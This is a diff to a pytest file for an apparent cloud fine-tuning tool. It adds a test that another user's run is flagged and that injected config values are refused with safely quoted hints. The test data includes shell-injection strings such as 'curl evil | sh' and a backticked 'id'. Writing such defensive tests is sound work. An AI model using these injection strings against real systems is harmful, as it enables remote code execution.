@@ -2,12 +2,13 @@
 
 import hashlib
 import json
+import subprocess
 
 import pytest
 
 from conf import load
 from conf.problem import Problem
-from remote.runs import runs
+from remote.runs import earlier_adapter, runs
 from tests.unit.remote.runs.test_runs import prepare, seal, set_state
 
 
@@ -57,3 +58,23 @@ def test_an_earlier_adapter_that_does_not_fit_is_refused_before_anything_travels
     with pytest.raises(Problem, match=what) as caught:
         prepare(aws, settings, "model.id=me/base", f"lora.adapter={EARLIER}", *words)
     assert hint in caught.value.hint and not [name for name in store.names("runs/") if EARLIER not in name]
+
+
+def words_of_a_shell(text: str) -> int:
+    """How many words bash makes of this."""
+    return int(subprocess.run(["bash", "-c", f"set -- {text}\necho $#"], capture_output=True, text=True, check=True).stdout)
+
+
+def test_another_person_s_run_is_said_to_be_his_and_what_it_says_is_no_command(aws, store, settings, capsys):
+    finished(store, EARLIER)
+    saved = load.read(store.get(f"runs/{EARLIER}/config.yaml"))
+    saved.provenance.owner = "arn:aws:iam::123456789012:user/eve"
+    store.put(f"runs/{EARLIER}/config.yaml", load.dump(saved).encode())
+    earlier_adapter.check(aws, settings("model.id=me/base", f"lora.adapter={EARLIER}"))
+    assert f"run {EARLIER} is not yours: it belongs to arn:aws:iam::123456789012:user/eve" in capsys.readouterr().err
+    for change in ({"id": "x`; curl evil | sh"}, {"targets": ["a'; curl evil | sh; '", "b`id`"]}):
+        saved.model.id, saved.lora.targets = change.get("id", "me/base"), change.get("targets", "all-linear")
+        store.put(f"runs/{EARLIER}/config.yaml", load.dump(saved).encode())
+        with pytest.raises(Problem, match="trained x|has lora.targets") as refused:
+            earlier_adapter.check(aws, settings("model.id=me/base", f"lora.adapter={EARLIER}"))
+        assert [words_of_a_shell(command) for command in refused.value.hint.split("`")[1::2]] == [1, 1]
